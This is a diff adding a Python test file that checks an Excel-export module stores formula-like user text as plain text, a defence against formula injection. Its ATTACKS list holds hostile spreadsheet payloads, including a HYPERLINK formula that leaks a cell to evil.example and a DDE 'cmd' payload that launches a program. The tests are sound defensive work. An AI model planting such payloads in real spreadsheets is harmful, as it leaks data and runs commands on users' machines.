@@ -1,0 +1,120 @@
+"""Cells of the workbooks we write: a text is a text, whatever it starts with (OWASP's formula
+injection), and reads back exactly as it was; our own formulas only through Formula."""
+
+from __future__ import annotations
+
+from datetime import date
+from io import BytesIO
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from python_calamine import CalamineWorkbook
+
+from tochuc.core.excel import FORMULA_START, Formula, cells, put, xlsx_write
+
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A2,"Bấm")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=cmd|' /C calc'!A0",
+    "#N/A",
+    "#DIV/0!",
+    "=",
+]
+
+
+def _written(values: list) -> bytes:
+    out = BytesIO()
+    xlsx_write(out, title="Danh sách", headers=["Cột"], rows=[[v] for v in values])
+    return out.getvalue()
+
+
+def _cells_of(data: bytes) -> list:
+    return [row[0] for row in load_workbook(BytesIO(data)).active.iter_rows(min_row=4)]
+
+
+def _calamine(data: bytes) -> list:
+    book = CalamineWorkbook.from_filelike(BytesIO(data))
+    return [row[0] for row in book.get_sheet_by_name(book.sheet_names[0]).to_python()[3:]]
+
+
+def test_a_text_that_starts_like_a_formula_is_written_as_text():
+    data = _written(ATTACKS)
+    for text, written in zip(ATTACKS, _cells_of(data), strict=True):
+        assert written.data_type == "s", text
+        assert written.value == text
+        # Excel's quote prefix: the cell stays text even after the user edits it.
+        assert written.quotePrefix, text
+    assert _calamine(data) == ATTACKS
+
+
+def test_our_own_formula_is_a_formula():
+    data = _written([2, 3, Formula("=SUM(A4:A5)")])
+    assert _cells_of(data)[2].data_type == "f"
+    assert _cells_of(data)[2].value == "=SUM(A4:A5)"
+    with pytest.raises(ValueError):
+        Formula("SUM(A4:A5)")
+
+
+def test_ordinary_values_keep_their_type_and_dates_show_day_first():
+    data = _written(["Nguyễn Văn An", 12, 1.5, date(2020, 2, 5)])
+    text, whole, part, day = _cells_of(data)
+    assert (text.value, text.quotePrefix) == ("Nguyễn Văn An", False)
+    assert (whole.value, part.value) == (12, 1.5)
+    assert day.value.date() == date(2020, 2, 5) and day.number_format == "DD/MM/YYYY"
+
+
+def test_ordinary_sheets_follow_the_same_rule():
+    book = Workbook()
+    sheet = book.active
+    sheet.append(cells(sheet, ["=1+1", "An", Formula("=1+2")]))
+    put(sheet, 2, 1, "=2+2")
+    put(sheet, 2, 2, "Bình")
+    out = BytesIO()
+    book.save(out)
+    back = load_workbook(BytesIO(out.getvalue())).active
+    assert [(c.value, c.data_type) for c in back[1]] == [("=1+1", "s"), ("An", "s"), ("=1+2", "f")]
+    assert [(c.value, c.data_type) for c in back[2][:2]] == [("=2+2", "s"), ("Bình", "s")]
+    assert back["A1"].quotePrefix and back["A2"].quotePrefix
+
+
+# Any text a record can hold: XML 1.0 has no place for most control characters (openpyxl
+# refuses them), so they are left out.
+cell_text_st = st.one_of(
+    st.text(min_size=1).filter(lambda t: not ILLEGAL_CHARACTERS_RE.search(t)),
+    st.builds(
+        lambda start, rest: start + rest,
+        st.sampled_from(sorted(FORMULA_START)),
+        st.text().filter(lambda t: not ILLEGAL_CHARACTERS_RE.search(t)),
+    ),
+)
+
+
+@given(st.lists(cell_text_st, min_size=1, max_size=5))
+@settings(max_examples=150, deadline=None)
+def test_any_text_is_never_a_formula_and_reads_back_identical(texts):
+    data = _written(texts)
+    for text, written in zip(texts, _cells_of(data), strict=True):
+        assert written.data_type == "s"
+        assert written.value == text
+    assert _calamine(data) == texts
+
+
+def formulas_in(data: bytes) -> list[str]:
+    """Every formula cell of every sheet of a workbook, as «sheet!A1: =...»."""
+    book = load_workbook(BytesIO(data))
+    return [
+        f"{sheet.title}!{c.coordinate}: {c.value}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
